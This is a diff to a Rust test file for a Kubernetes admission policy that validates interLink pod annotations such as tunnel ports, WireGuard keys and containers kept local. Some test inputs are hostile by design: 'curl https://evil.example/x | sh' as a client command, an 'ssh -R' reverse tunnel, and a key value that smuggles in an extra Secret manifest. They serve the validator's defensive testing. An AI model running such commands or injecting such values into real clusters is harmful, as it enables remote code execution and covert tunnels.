@@ -15,6 +15,7 @@ const PORTS: &str = "interlink.eu/wstunnel-extra-ports";
 const LOCAL_CONTAINERS: &str = "interlink.eu/disable-offload-containers";
 const LOCAL_INIT_CONTAINERS: &str = "interlink.eu/disable-offload-init-containers";
 const PING: &str = "interlink.virtual-kubelet.io/ping-response";
+const PUBLIC_KEY: &str = "YW4gZXhhbXBsZSBvZiBhIHB1YmxpYyBrZXkhISEhISE=";
 const COMMANDS: &str = "interlink.eu/wstunnel-client-commands";
 
 #[test]
@@ -55,8 +56,13 @@ fn create(object: Value) -> Vec<String> {
 
 /// The CREATE of a pod with one annotation, where the settings allow a range of addresses.
 fn create_pod(key: &str, value: &str) -> Vec<String> {
-    let settings = json!({"podIP": {"cidrs": ["10.244.0.0/16"], "octetRange": {}}});
-    evaluate(&AdmissionRequest::create(pod(&json!({key: value}))), &settings)
+    evaluate_in_range(&json!({key: value}))
+}
+
+/// The CREATE of a pod, where the settings allow a range of addresses.
+fn evaluate_in_range(annotations: &Value) -> Vec<String> {
+    let settings = json!({"podIP": {"cidrs": ["10.244.0.0/16"]}});
+    evaluate(&AdmissionRequest::create(pod(annotations)), &settings)
 }
 
 /// The CREATE of a workload with an address in its template.
@@ -102,8 +108,11 @@ fn audit(kind: &str, key: &str, manager: &str) -> Vec<String> {
 }
 
 /// Returns the messages for each problem, under a heading.
+#[expect(clippy::too_many_lines, reason = "it is a table")]
 fn messages() -> Vec<(&'static str, Vec<String>)> {
     let portless = json!([{"name": "main"}]);
+    let named_port = json!([{"name": "main", "ports": [{"containerPort": 80, "name": "http"}]}]);
+    let named = pod_with_containers(&json!({PORTS: "9090:http"}), &named_port);
     let vpn_and_shadow = json!({"interlink.eu/shadow-same-ns": "true", VPN: "true"});
     let custom_resource = json!({"apiVersion": "example.org/v1", "kind": "Fleet",
         "metadata": {"annotations": {VPN: "true"}},
@@ -127,6 +136,7 @@ fn messages() -> Vec<(&'static str, Vec<String>)> {
         ("JobID removed", update_pod(&json!({"JobID": "1"}), &json!({}))),
         ("stored JobID, set with kubectl", audit("Pod", "JobID", "kubectl-edit")),
         ("stored JobID, copied by a controller", audit("Pod", "JobID", "kube-controller-manager")),
+        ("another tunnel's client commands set", create_pod("interlink.eu/ssh-client-commands", "ssh -R 80:web:80")),
         ("client commands set", create_pod(COMMANDS, "curl https://evil.example/x | sh")),
         ("stored client commands, set with kubectl", audit("Pod", COMMANDS, "kubectl-edit")),
         ("ping response on a pod", create_pod(PING, "ok")),
@@ -161,6 +171,9 @@ fn messages() -> Vec<(&'static str, Vec<String>)> {
         ("extra port with an invalid name", create_pod(PORTS, "8080:My_Port")),
         ("extra port with an unknown protocol", create_pod(PORTS, "8080:web:HTTP")),
         ("extra port with too many parts", create_pod(PORTS, "8080:web:tcp:x")),
+        ("extra port without a name", create_pod(PORTS, "5353::UDP")),
+        ("extra port with a name of the tunnel's own", create_pod(PORTS, "9000:webhook")),
+        ("extra port with the name of a container's port", create(named)),
         ("duplicate extra port", create_pod(PORTS, "8080,8080:web")),
         ("duplicate name of an extra port", create_pod(PORTS, "8080:web,9090:web")),
         ("extra port with a name that YAML reads as a boolean", create_pod(PORTS, "8080:on")),
@@ -170,14 +183,30 @@ fn messages() -> Vec<(&'static str, Vec<String>)> {
         ("MTU out of range", create_pod("interlink.eu/wg-mtu", "99999")),
         ("negative keepalive", create_pod("interlink.eu/wg-keepalive-seconds", "-1")),
         ("invalid public key", create_pod("interlink.eu/wg-peer-public-key", "c2hvcnQ=")),
+        ("valid public key", create_pod("interlink.eu/wg-peer-public-key", PUBLIC_KEY)),
+        ("MTU that may be a key", create_pod("interlink.eu/wg-mtu", &PUBLIC_KEY[..43])),
+        (
+            "mesh annotation on a pod that leaves the mesh",
+            create(pod(&json!({"interlink.eu/mesh-network": "disabled", "interlink.eu/wg-mtu": "1420"}))),
+        ),
         ("private key", create_pod("interlink.eu/wg-private-key", "c2VjcmV0")),
         ("private key that adds a manifest", create_pod("interlink.eu/wg-private-key", "x\n---\nkind: Secret")),
         ("unknown container kept local", create_pod(LOCAL_CONTAINERS, "main,sidcar")),
+        ("all containers kept local", create_pod(LOCAL_CONTAINERS, "main,sidecar")),
+        (
+            "container kept local on a pod without ports",
+            create(pod_with_containers(
+                &json!({LOCAL_CONTAINERS: "sidecar"}),
+                &json!([{"name": "main"}, {"name": "sidecar"}]),
+            )),
+        ),
+        ("container kept local on a pod with the VPN", create(pod(&json!({LOCAL_CONTAINERS: "sidecar", VPN: "true"})))),
         ("unknown init container kept local", create_pod(LOCAL_INIT_CONTAINERS, "fetch")),
         ("invalid value of shadow-same-ns", create_pod("interlink.eu/shadow-same-ns", "yes")),
         ("misspelled annotation", create_pod("interlink.eu/wstunnel-timeout", "2m")),
         ("misspelled annotation that only interLink may write", create_pod("interlink.eu/job-id", "1")),
         ("unknown annotation, not similar to a known one", create_pod("interlink.eu/colour", "blue")),
+        ("pod IP without effect, together with the VPN", evaluate_in_range(&json!({IP: "10.244.1.5", VPN: "true"}))),
         (
             "shadow-same-ns without effect, together with the VPN",
             create(pod_with_containers(&vpn_and_shadow, &portless)),
